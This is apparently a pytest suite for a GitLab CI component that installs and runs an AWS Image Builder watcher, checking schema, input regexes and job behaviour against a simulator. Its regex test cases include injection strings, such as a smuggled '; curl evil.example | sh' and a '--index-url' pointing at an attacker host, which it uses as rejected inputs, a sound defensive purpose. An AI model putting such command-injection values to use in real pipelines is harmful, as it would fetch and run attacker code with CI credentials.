"""The GitLab CI/CD component, deploy/gitlab/templates/ibwatch.yml, and the example
pipeline that includes it, deploy/ci/gitlab-ci.yml.

Its two YAML documents (the `spec:` header, then the job) are validated against
check-jsonschema's vendored GitLab CI schema, one by one: check-jsonschema reads one
document per file and refuses the component as a whole ("expected a single document in
the stream"), while GitLab reads the header first and interpolates the job with it.

Its inputs are checked as GitLab checks them when it creates the pipeline: types,
defaults, required values, and each regex matched with RE2 (google-re2, the engine
behind GitLab's Gitlab::UntrustedRegexp), so a regex RE2 refuses or reads otherwise
fails here too.

Then the job runs, as a runner would run it, against the simulator: its inputs
interpolated into the job (`interpolate`, which fails on anything it does not
implement), its variables exported, its `before_script` and `script` lines in one shell
session, bash (wrapped in `: | eval`, as the runner does) or sh (`runner_script`). What
is not exercised: GitLab itself (include, the caching of pip's downloads, a real ID
token and botocore's AssumeRoleWithWebIdentity with it, the upload of the report) and
the `pip install` line, which cannot reach an index or a repository from here: it is
rewritten to record what it would install, and the `ibwatch` found first on PATH is
this checkout's (.venv/bin).
"""

from __future__ import annotations

import copy
import json
import os
import re
import shlex
import string
import subprocess
import sys
from collections.abc import Mapping
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import anyio
import pytest
import re2
import yaml

from tests import gitlab_dotenv
from tests.cli.test_wait_diagnostics import AGENT, agent_and_web_base
from tests.deploy import ci_support
from tests.deploy.ci_support import AMIS, ENDLESS, PIPELINE, VERSION_ARN
from tests.support import ACCOUNT
from watcher._version import __version__
from watcher.dotenv_report import ALWAYS, ami_key, dotenv_lines
from watcher.durations import parse_duration
from watcher.result_files import no_result
from watcher.simulator import Simulator
from watcher.step_outputs import step_outputs
from watcher.testing import FakeClock

ROOT = Path(__file__).resolve().parents[2]
COMPONENT = ROOT / "deploy" / "gitlab" / "templates" / "ibwatch.yml"
EXAMPLE = ROOT / "deploy" / "ci" / "gitlab-ci.yml"
VENV_BIN = Path(sys.executable).parent

SOURCE = (
    "https://gitlab.example.com/platform/imagebuilder-watcher/-/archive/"
    f"v{__version__}/imagebuilder-watcher-v{__version__}.tar.gz"
)
"""A tag's source archive, which pip installs without git (the default image has none)."""
REQUIRED = {"source": SOURCE}
"""The inputs without a default."""
PIP_LINE = 'python -m pip install --quiet "$IBWATCH_INPUT_SOURCE"'
RESERVED = [
    "after_script",
    "before_script",
    "cache",
    "default",
    "false",
    "image",
    "include",
    "nil",
    "pages",
    "services",
    "spec",
    "stages",
    "true",
    "types",
    "variables",
    "workflow",
]
"""Keys GitLab reads at the top of a pipeline, which no job may be named: the
properties of check-jsonschema's vendored GitLab CI schema and the names its docs list
("Job name limitations": true, false, nil; types, the old stages)."""

# `$[[ inputs.name ]]`, maybe with `| function`s; anything else in `$[[ ]]` is refused.
_BLOCK = re.compile(r"\$\[\[\s*(.*?)\s*\]\]")
_INPUT = re.compile(r"inputs\.([A-Za-z0-9_-]+)")
_VARIABLE = re.compile(r"\$(?:\{([A-Za-z_][A-Za-z0-9_]*)\}|([A-Za-z_][A-Za-z0-9_]*))")


# --------------------------------------------------------------------- the YAML


def documents() -> tuple[dict[str, Any], dict[str, Any]]:
    header, jobs = yaml.safe_load_all(COMPONENT.read_text(encoding="utf-8"))
    return header, jobs


def spec_inputs() -> dict[str, dict[str, Any]]:
    inputs: dict[str, dict[str, Any]] = documents()[0]["spec"]["inputs"]
    return inputs


def input_values(given: Mapping[str, Any]) -> dict[str, Any]:
    """Each input's value as GitLab resolves it (inputs/base_input.rb): the given one,
    else the default; checked against the type and the regex, defaults included."""
    spec = spec_inputs()
    unknown = set(given) - set(spec)
    assert not unknown, f"inputs the component does not declare: {sorted(unknown)}"
    values = {}
    for name, rules in spec.items():
        rules = rules or {}
        assert name in given or "default" in rules, f"`{name}` input: required value not given"
        value = given.get(name, rules.get("default"))
        kind = rules.get("type", "string")
        expected = {"string": str, "number": int | float, "boolean": bool}[kind]
        assert isinstance(value, expected), f"`{name}` input: {value!r} is not a {kind}"
        if kind == "number":
            assert not isinstance(value, bool), f"`{name}` input: {value!r} is not a number"
        if "regex" in rules:  # Gitlab::UntrustedRegexp#match?: RE2, anywhere, so ^ $ anchor
            assert re2.search(rules["regex"], value), f"`{name}` input: {value!r} !~ regex"
        if "options" in rules:
            assert value in rules["options"], f"`{name}` input: {value!r} not an option"
        values[name] = value
    return values


def interpolate(node: Any, values: Mapping[str, Any]) -> Any:
    """`$[[ inputs.x ]]` replaced as GitLab does (doc/ci/inputs, "Input types"): a string
    that is one block becomes the typed value; a block inside a larger string, its
    text. Keys too (the job's name). Functions (`| truncate(...)`) and any other
    block are not implemented here, and fail the test rather than pass unread."""
    if isinstance(node, dict):
        return {interpolate(k, values): interpolate(v, values) for k, v in node.items()}
    if isinstance(node, list):
        return [interpolate(item, values) for item in node]
    if not isinstance(node, str):
        return node

    def value_of(block: str) -> Any:
        found = _INPUT.fullmatch(block)
        assert found is not None, f"interpolation not implemented here: $[[ {block} ]]"
        assert found.group(1) in values, f"undeclared input in $[[ {block} ]]"
        return values[found.group(1)]

    whole = _BLOCK.fullmatch(node)
    if whole is not None:
        return value_of(whole.group(1))
    return _BLOCK.sub(lambda m: _text(value_of(m.group(1))), node)


def _text(value: Any) -> str:
    """A value as Ruby's to_s writes it into a string: true, false, 20."""
    return str(value).lower() if isinstance(value, bool) else str(value)


def job(given: Mapping[str, Any]) -> tuple[str, dict[str, Any]]:
    """The job, its inputs `given` over the required ones."""
    jobs = interpolate(documents()[1], input_values({**REQUIRED, **given}))
    [(name, body)] = jobs.items()
    return name, body


# --------------------------------------------------------------------- the runner


def runner_script(body: Mapping[str, Any], variables: Mapping[str, str], workdir: Path) -> str:
    """The bash script a runner makes of a job (gitlab-runner shells/bash.go `Finish`
    and abstract.go `writeUserScript`): errexit and pipefail, then one `eval` of the
    exports, the `cd`, and every before_script and script command, each trimmed of
    surrounding space. The `$ command` echo lines are left out."""
    commands = [f"export {name}={shlex.quote(value)}" for name, value in variables.items()]
    commands.append(f"cd {shlex.quote(str(workdir))}")
    commands += [c.strip() for c in [*body.get("before_script", []), *body["script"]]]
    return (
        "trap exit 1 TERM\n"
        "if set -o | grep pipefail > /dev/null; then set -o pipefail; fi; set -o errexit\n"
        "set +o noclobber\n"
        f": | eval {shlex.quote(chr(10).join(commands))}\n"
        "exit 0\n"
    )


def expand(value: str, known: Mapping[str, str]) -> str:
    """A job variable's `$NAME`/`${NAME}` expanded as the runner does (an unknown
    name is empty)."""
    return _VARIABLE.sub(lambda m: known.get(m.group(1) or m.group(2), ""), value)


def without_pip(body: dict[str, Any]) -> dict[str, Any]:
    """The job with its one pip line rewritten: it records the requirement it would
    install (its variable expanded by the same shell) instead of reaching PyPI."""
    body = copy.deepcopy(body)
    lines = body["before_script"]
    [index] = [i for i, line in enumerate(lines) if "pip install" in line]
    assert lines[index] == PIP_LINE
    lines[index] = PIP_LINE.replace("python -m pip install --quiet", "printf '%s\\n'")
    lines[index] += " > pip-installed.txt"
    return body


async def run_job(
    given: Mapping[str, Any],
    endpoint: str,
    workdir: Path,
    *,
    script: list[str] | None = None,
    shell: str = "bash",
    path: str | None = None,
) -> subprocess.CompletedProcess[str]:
    """The job as a runner runs it; `script` replaces its script (before_script runs).
    `shell="sh"`: as the runner runs it in an image without bash (shells/bash.go's
    detection falls back to sh; here dash, as on Debian). `path`: the job's PATH, in
    place of this checkout's venv before this machine's."""
    _, body = job(given)
    if script is not None:
        body["script"] = script
    base = {
        "PATH": path or f"{VENV_BIN}{os.pathsep}{os.environ['PATH']}",
        "LANG": "C.UTF-8",
        "CI_PROJECT_DIR": str(workdir),
        "CI_JOB_ID": "4242",
        "IBWATCH_ID_TOKEN": "not-a-token",  # id_tokens: made by GitLab, unused without role-arn
        **ci_support.aws_env(workdir, endpoint),
    }
    variables = {name: expand(str(value), base) for name, value in body["variables"].items()}
    script = runner_script(without_pip(body), variables, workdir)
    done = await anyio.run_process([shell], input=script.encode(), check=False, env=base)
    return subprocess.CompletedProcess(
        done.args, done.returncode, done.stdout.decode(), done.stderr.decode()
    )


def report(workdir: Path, body: Mapping[str, Any]) -> dict[str, str]:
    """The job's dotenv report, read as GitLab reads it."""
    return gitlab_dotenv.parse((workdir / body["artifacts"]["reports"]["dotenv"]).read_bytes())


# --------------------------------------------------------------------- schema


def validate(tmp_path: Path, named: Mapping[str, Any]) -> tuple[dict[str, list[str]], list[str]]:
    """check-jsonschema's vendored GitLab CI schema on each document, and on the
    component file as it is, in one run: the errors by name, and the files it could
    not parse."""
    paths = []
    for name, document in named.items():
        path = tmp_path / f"{name}.json"
        path.write_text(json.dumps(document), encoding="utf-8")
        paths.append(str(path))
    done = ci_support.check_jsonschema(
        "--builtin-schema", "vendor.gitlab-ci", "-o", "json", *paths, str(COMPONENT)
    )
    result = json.loads(done.stdout)
    errors: dict[str, list[str]] = {name: [] for name in named}
    for error in result["errors"]:
        errors[Path(error["filename"]).stem].append(f"{error['path']}: {error['message']}")
    return errors, [error["filename"] for error in result["parse_errors"]]


def test_the_component_and_the_example_validate_against_gitlabs_schema(tmp_path: Path) -> None:
    """The header, the job as written and as interpolated (defaults, and every input
    set), and the example pipeline; a broken job proves the schema is read. The
    component as one file does not parse: check-jsonschema reads one YAML document
    per file ("expected a single document in the stream"). If it ever reads both,
    this test says so, and the file should be validated as it is."""
    header, jobs = documents()
    _, interpolated = job({})
    _, all_set = job(
        {
            "pipeline-arn": PIPELINE,
            "role-arn": f"arn:aws:iam::{ACCOUNT}:role/ci",
            "region": "eu-west-1",
            "cancel-on-timeout": True,
            "log-lines": 0,
            "job-timeout": "3h",
        }
    )
    broken = copy.deepcopy(all_set)
    broken["artifacts"]["when"] = "sometimes"
    errors, unparsed = validate(
        tmp_path,
        {
            "header": header,
            "jobs": jobs,
            "defaults": {"ibwatch": interpolated},
            "all_set": {"bake": all_set},
            "example": yaml.safe_load(EXAMPLE.read_text(encoding="utf-8")),
            "broken": {"bake": broken},
        },
    )
    assert errors.pop("broken") == [
        "$.bake.artifacts.when: 'sometimes' is not one of ['on_success', 'on_failure', 'always']"
    ]
    assert errors == {name: [] for name in errors}
    assert unparsed == [str(COMPONENT)]


# --------------------------------------------------------------------- the spec


def test_the_version_input_defaults_to_this_release() -> None:
    assert spec_inputs()["version"]["default"] == __version__


def test_every_input_is_used_and_every_block_names_a_declared_input() -> None:
    text = COMPONENT.read_text(encoding="utf-8").split("\n---\n", 1)[1]
    blocks = _BLOCK.findall(text)
    assert all(_INPUT.fullmatch(block) for block in blocks), blocks
    assert {block.removeprefix("inputs.") for block in blocks} == set(spec_inputs())


def test_the_defaults_pass_their_own_types_and_regexes() -> None:
    assert input_values(REQUIRED)["image"] == "python:3.12-slim"


def test_what_pip_installs_has_no_default() -> None:
    """ibwatch is on no public index: a default would install whatever someone
    registered under its name there, with the job's AWS role."""
    assert "default" not in spec_inputs()["source"]
    with pytest.raises(AssertionError, match="`source` input: required value not given"):
        input_values({})


def test_the_examples_source_installs_in_the_default_image_without_git() -> None:
    """The example keeps the default image, which has no git, so its source is an
    https URL of a source archive (no `git+`, `hg+`, ... scheme, which pip hands to a
    version control program), of the tag of the release it documents."""
    [include] = yaml.safe_load(EXAMPLE.read_text(encoding="utf-8"))["include"]
    assert "image" not in include["inputs"]
    assert input_values(REQUIRED)["image"] == "python:3.12-slim"
    source = urlsplit(include["inputs"]["source"])
    assert source.scheme == "https"
    assert source.path.endswith(f"/archive/refs/tags/v{__version__}.tar.gz"), source.path


def job_name_regex(reserved: list[str]) -> str:
    """An RE2 regex (no lookahead) for the names the job may have: `-`, `_`, letters
    and digits, not starting with `-`, and none of `reserved`. Each reserved word is
    spelled out a letter at a time: at each letter, the name may end (when that is
    not a reserved word), go on along a reserved word, or leave them all."""

    def after(prefixes: list[str], first: bool) -> str:
        letters = sorted({word[0] for word in prefixes if word})
        branches = [] if first or "" in prefixes else [""]
        for letter in letters:
            branches.append(letter + after([w[1:] for w in prefixes if w[:1] == letter], False))
        others = "".join(letters)
        if first:
            branches.append(f"[^\\W{others}][\\w-]*")
        elif others:
            branches.append(f"(?:[^\\W{others}]|-)[\\w-]*")
        else:
            branches.append("[\\w-][\\w-]*")
        return "(?:" + "|".join(branches) + ")"

    return "^" + after(sorted(reserved), True) + "$"


def test_the_job_name_regex_is_the_one_made_from_gitlabs_reserved_keys() -> None:
    assert spec_inputs()["job-name"]["regex"] == job_name_regex(RESERVED)


def test_no_job_name_is_a_hidden_job_or_a_reserved_key() -> None:
    """Every reserved key is refused, and so is a name starting with `.` (a hidden job,
    which never runs); a name one letter away from a reserved key is not."""
    names = [
        *(name for name in RESERVED),
        *(name[:cut] + name[cut + 1 :] for name in RESERVED for cut in range(len(name))),
        *(name + extra for name in RESERVED for extra in ("s", "-", "_", "1")),
        *(name[:cut] + "x" + name[cut + 1 :] for name in RESERVED for cut in range(len(name))),
        *("ibwatch", "bake-ami", "bake_ami", "Default", "x", "ibwatch-2", "_x"),
        *(".ibwatch", "-x", "bake ami", "bake:ami", ""),
    ]
    regex = re2.compile(spec_inputs()["job-name"]["regex"])
    allowed = set(string.ascii_letters + string.digits + "_-")
    for name in names:
        fits = bool(name) and set(name) <= allowed and name[0] != "-"
        assert bool(regex.search(name)) == (fits and name not in RESERVED), name


@pytest.mark.parametrize(
    ("name", "value", "accepted"),
    [
        ("pipeline-arn", PIPELINE, True),
        ("pipeline-arn", "$PIPELINE_ARN", True),
        ("pipeline-arn", "${PIPELINE_ARN}", True),
        ("pipeline-arn", f"{PIPELINE}; curl evil.example | sh", False),
        ("pipeline-arn", f"{VERSION_ARN}/7", False),
        ("image-arn", f"{VERSION_ARN}/7", True),
        ("image-arn", f"{VERSION_ARN[:-6]}/1.x.x", True),
        ("image-arn", PIPELINE, False),
        ("role-arn", f"arn:aws:iam::{ACCOUNT}:role/path/gitlab-ci", True),
        ("role-arn", f"arn:aws:iam::{ACCOUNT}:user/someone", False),
        ("region", "us-gov-west-1", True),
        ("region", "us-east-1 --endpoint-url http://evil", False),
        ("timeout", "1h30m", True),
        ("timeout", "90 minutes", False),
        ("timeout", "0s", False),
        ("pipeline-arn", f"{PIPELINE[:-16]}*", False),
        ("pipeline-arn", PIPELINE.replace("us-east-1", "US-EAST-1"), False),
        ("image-arn", f"{VERSION_ARN[:-6]}/1.x.x/3", False),
        ("image-arn", f"{VERSION_ARN[:-6]}/x.1.x", False),
        ("image-arn", f"{VERSION_ARN[:-6]}/1.4.x", True),
        ("image-arn", "arn:aws:imagebuilder:us-east-1:aws:image/al2023-x86/x.x.x", False),
        ("image-arn", "arn:aws:imagebuilder:us-east-1:aws:image/al2023-x86/2025.1.0/3", True),
        ("version", "0.2.0rc1", True),
        ("version", "0.1.0; id", False),
        ("source", SOURCE, True),
        ("source", "https://pkgs.example.com/imagebuilder_watcher-0.1.0-py3-none-any.whl", True),
        ("source", "imagebuilder-watcher==0.1.0", True),
        ("source", "$IBWATCH_SOURCE", True),
        ("source", "--index-url=https://evil.example imagebuilder-watcher", False),
        ("source", "imagebuilder-watcher==0.1.0 other-package", False),
        ("source", "", False),
    ],
)
def test_a_string_input_is_checked_by_its_regex(name: str, value: str, accepted: bool) -> None:
    """GitLab refuses the pipeline at creation for a value its regex does not match."""
    if accepted:
        assert input_values({**REQUIRED, name: value})[name] == value
    else:
        with pytest.raises(AssertionError, match="regex"):
            input_values({**REQUIRED, name: value})


# --------------------------------------------------------------------- the example


def test_the_example_includes_the_component_and_hands_its_report_on() -> None:
    pipeline = yaml.safe_load(EXAMPLE.read_text(encoding="utf-8"))
    [include] = pipeline["include"]
    assert include["remote"].endswith("/deploy/gitlab/templates/ibwatch.yml")
    assert f"/v{__version__}/" in include["remote"], "pin the release the example documents"
    name, body = job(include["inputs"])  # every input declared, typed, matching its regex
    assert body["stage"] in pipeline["stages"]
    written = {*ALWAYS, ami_key("us-east-1")}
    for later in ("use-ami", "explain-failure"):
        assert pipeline[later]["needs"] == [{"job": name, "artifacts": True}]
        used = set(re.findall(r"\$(IBWATCH_\w+)", json.dumps(pipeline[later]["script"])))
        assert used, f"{later} reads nothing of the report"
        assert used <= written, f"{later} reads a variable the report never has"


# --------------------------------------------------------------------- the job, run


async def test_starting_a_pipeline_that_ends_available_hands_on_its_build_and_amis(
    tmp_path: Path,
) -> None:
    simulator = Simulator(ci_support.pipeline_to_available())
    async with simulator as url:
        done = await run_job({"pipeline-arn": PIPELINE, "interval": "0.1s"}, url, tmp_path)
    assert done.returncode == 0, done.stderr
    assert f"{VERSION_ARN}/1  AVAILABLE" in done.stdout
    assert (tmp_path / "pip-installed.txt").read_text() == f"{SOURCE}\n"
    assert simulator.counters.requests["StartImagePipelineExecution"] == 1
    assert report(tmp_path, job({})[1]) == {
        "IBWATCH_STATUS": "AVAILABLE",
        "IBWATCH_EXIT_CODE": "0",
        "IBWATCH_BUILD_ARN": f"{VERSION_ARN}/1",
        "IBWATCH_FAILED_STEP": "",
        "IBWATCH_LOG_GROUP": "",
        "IBWATCH_CONSOLE_URL": "",
        "IBWATCH_AMIS": json.dumps(AMIS, separators=(",", ":")),
        "IBWATCH_CONTAINER_URIS": "[]",
        "IBWATCH_AMI_US_EAST_1": AMIS["us-east-1"],
        "IBWATCH_AMI_EU_WEST_1": AMIS["eu-west-1"],
    }


async def test_waiting_on_a_build_that_fails_exits_1_with_the_report_written(
    tmp_path: Path,
) -> None:
    """The demo's windows-agent build, failed in TESTING at RunImageTests: the job
    fails with ibwatch's exit code, and the report says why (artifacts:when: always
    uploads it). Run by sh, not bash: the script is POSIX."""
    clock = FakeClock()
    async with Simulator(agent_and_web_base(), clock=clock) as url:
        clock.advance(24 * 3600)  # every build has ended
        given = {"image-arn": AGENT, "interval": "0.1s"}
        done = await run_job(given, url, tmp_path, shell="sh")
    assert done.returncode == 1, done.stderr
    assert "last 20 log lines:" in done.stdout  # log-lines' default
    values = report(tmp_path, job({})[1])
    assert values["IBWATCH_STATUS"] == "FAILED"
    assert values["IBWATCH_EXIT_CODE"] == "1"
    assert values["IBWATCH_BUILD_ARN"] == AGENT
    assert values["IBWATCH_FAILED_STEP"] == "TEST/RunImageTests"
    assert values["IBWATCH_LOG_GROUP"] == "/aws/imagebuilder/windows-agent"
    assert values["IBWATCH_CONSOLE_URL"].startswith("https://eu-west-1.console.aws.amazon.com/")
    assert values["IBWATCH_AMIS"] == "{}"


async def test_a_timeout_ends_the_job_with_exit_3_under_bash_too(tmp_path: Path) -> None:
    """Under bash the runner wraps the script in `: | eval '...'`, where a failing
    command would end the job with 1 whatever its code (gitlab-runner issue 27668):
    a job whose `allow_failure: exit_codes` or retry rules read 3 must get 3."""
    async with Simulator(ci_support.endless_build()) as url:
        given = {"image-arn": ENDLESS, "interval": "0.1s", "timeout": "0.1s"}
        done = await run_job(given, url, tmp_path, shell="bash")
    assert done.returncode == 3, done.stderr
    values = report(tmp_path, job({})[1])
    assert (values["IBWATCH_STATUS"], values["IBWATCH_EXIT_CODE"]) == ("TIMEOUT", "3")


def refused_report(workdir: Path) -> None:
    """The job stopped before ibwatch ran: its report is what ibwatch writes for a run
    without a result and exit 2, byte for byte."""
    lines, _ = dotenv_lines(step_outputs(no_result(2)))
    assert (workdir / "ibwatch.env").read_text() == "".join(f"{line}\n" for line in lines)


async def test_both_arns_or_neither_is_refused_before_any_call(tmp_path: Path) -> None:
    simulator = Simulator(ci_support.pipeline_to_available())
    async with simulator as url:
        both = await run_job(
            {"pipeline-arn": PIPELINE, "image-arn": f"{VERSION_ARN}/1"}, url, tmp_path
        )
        refused_report(tmp_path)
        neither = await run_job({}, url, tmp_path)
    for done in (both, neither):
        assert done.returncode == 2
        assert "set exactly one of the inputs pipeline-arn and image-arn" in done.stderr
    assert sum(simulator.counters.requests.values()) == 0
    refused_report(tmp_path)


@pytest.mark.parametrize("log_lines", [1001, 1.5])
async def test_log_lines_out_of_bounds_is_refused_with_a_report(
    tmp_path: Path, log_lines: float
) -> None:
    """A number input takes no regex: the job checks it, before ibwatch (whose parser
    would refuse it without writing the report)."""
    given = {"image-arn": f"{VERSION_ARN}/1", "log-lines": log_lines}
    done = await run_job(given, "http://127.0.0.1:9", tmp_path, shell="sh")
    assert done.returncode == 2, done.stderr
    assert f"the input log-lines must be a whole number from 0 to 1000, got {log_lines}" in (
        done.stderr
    )
    refused_report(tmp_path)


async def test_a_git_source_in_an_image_without_git_is_refused_saying_so(tmp_path: Path) -> None:
    """The default image (python:3.12-slim) has no git: pip would fail with "Cannot
    find command 'git'". Here a PATH with a shell and nothing else stands for it."""
    bare = tmp_path / "bin"
    bare.mkdir()
    (bare / "sh").symlink_to("/bin/sh")
    given = {
        "image-arn": f"{VERSION_ARN}/1",
        "source": f"git+https://x.example/ibwatch@v{__version__}",
    }
    done = await run_job(given, "http://127.0.0.1:9", tmp_path, shell="sh", path=str(bare))
    assert done.returncode == 2, done.stderr
    assert "is a git URL, and the job's image has no git: give a source archive's URL" in (
        done.stderr
    )
    assert not (tmp_path / "pip-installed.txt").exists()
    refused_report(tmp_path)


@pytest.mark.parametrize("name", ["timeout", "interval"])
def test_a_duration_input_takes_what_ibwatch_takes(name: str) -> None:
    """The regex and ibwatch's parser (watcher/durations.py) agree: `timeout` longer
    than zero, `interval` any; spaces, which ibwatch drops, are refused here."""
    samples = ["0", "0.0", "0.5", "90", "0s", "0m0s", "0.01s", "1h30m", "0h30m", "30m0s"]
    samples += ["1.5h", "250ms", "1d", "10m0.0s0h", "1.s", ".5s", "-1s", "s", "", "1x", "1m1"]
    regex = re2.compile(spec_inputs()[name]["regex"])
    for sample in samples:
        try:
            seconds = parse_duration(sample)
        except ValueError:
            seconds = None
        takes = seconds is not None and (seconds > 0 or name == "interval")
        assert bool(regex.search(sample)) == takes, sample


async def test_a_source_that_installs_another_release_fails_the_job(tmp_path: Path) -> None:
    """`ibwatch --version` must say the input version: exit 2 before any call."""
    given = {"pipeline-arn": PIPELINE, "version": "9.9.9"}
    done = await run_job(given, "http://127.0.0.1:9", tmp_path, script=["echo not reached"])
    assert done.returncode == 2, done.stderr
    assert (
        f"the input source ({SOURCE}) installed 'ibwatch {__version__}', not the input "
        "version 9.9.9" in done.stderr
    )
    assert "not reached" not in done.stdout
    refused_report(tmp_path)


async def test_a_role_arn_hands_botocore_the_role_and_the_jobs_id_token(tmp_path: Path) -> None:
    """What botocore's web-identity provider reads (AWS_ROLE_ARN and the token file),
    and no keys in the environment, which botocore's chain would take first (the
    runner here has some, as CI/CD variables would put there); botocore's own
    AssumeRoleWithWebIdentity call is not exercised here."""
    role = f"arn:aws:iam::{ACCOUNT}:role/gitlab-image-builder"
    given = {"pipeline-arn": PIPELINE, "role-arn": role, "oidc-audience": "https://gitlab.example"}
    token = '"$(cat "$AWS_WEB_IDENTITY_TOKEN_FILE")"'
    keys = '"${AWS_ACCESS_KEY_ID-unset}${AWS_SECRET_ACCESS_KEY-unset}"'
    probe = f'printf "%s\\n" "$AWS_ROLE_ARN" "$AWS_ROLE_SESSION_NAME" {token} {keys}'
    done = await run_job(given, "http://127.0.0.1:9", tmp_path, script=[probe])
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines()[-4:] == [role, "gitlab-job-4242", "not-a-token", "unsetunset"]
    assert "role-arn is set, so AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY and" in done.stdout
    assert job(given)[1]["id_tokens"] == {"IBWATCH_ID_TOKEN": {"aud": "https://gitlab.example"}}
